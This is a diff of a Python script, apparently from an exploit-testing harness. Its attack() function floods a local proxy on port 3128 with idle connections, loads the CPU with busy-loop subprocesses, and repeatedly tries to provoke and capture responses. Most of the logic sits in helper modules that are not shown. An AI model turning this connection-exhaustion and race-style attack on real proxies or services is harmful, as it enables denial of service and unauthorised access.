@@ -6,14 +6,15 @@ The program cannot know as whom it was taken, so it never says that it succeeded
 
 import socket
 import struct
-import threading
+import subprocess
+import sys
 import time
 
 import other_call
 import say
 import twins
 
-DOOR, PORT, TRIES = 3128, 40_404, 25
+DOOR, PORT, TRIES, WHEN_FULL = 3128, 40_404, 40, 25
 RESET = struct.pack("ii", 1, 0)
 
 
@@ -41,12 +42,11 @@ def attack(given):
     other_call.neighbour(given)
     request = f"connect {PORT} {DOOR}".encode()
     said, errors = 0, []
-    busy = threading.Event()
-    load = [threading.Thread(target=spin, args=(busy,), daemon=True) for _ in range(2)]
-    for thread in load:
-        thread.start()
+    load = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
     for number in range(TRIES):
-        idle = [socket.create_connection(("127.0.0.1", DOOR)) for _ in range(int(given["full"]))] if number < 10 else []
+        idle = (
+            [socket.create_connection(("127.0.0.1", DOOR)) for _ in range(int(given["full"]))] if number < WHEN_FULL else []
+        )
         try:
             ask(given, request)
             for sock in idle:
@@ -57,14 +57,11 @@ def attack(given):
             said += b"403" in steal(number)
         except OSError as error:
             errors.append(str(error))
-    busy.set()
+    for process in load:
+        process.kill()
+        process.wait()
     ask(given, b"end")
     return False, f"{said} of {TRIES} answered; {sorted(set(errors))}"
-
-
-def spin(until):
-    while not until.is_set():
-        pass
 
 
 if __name__ == "__main__":
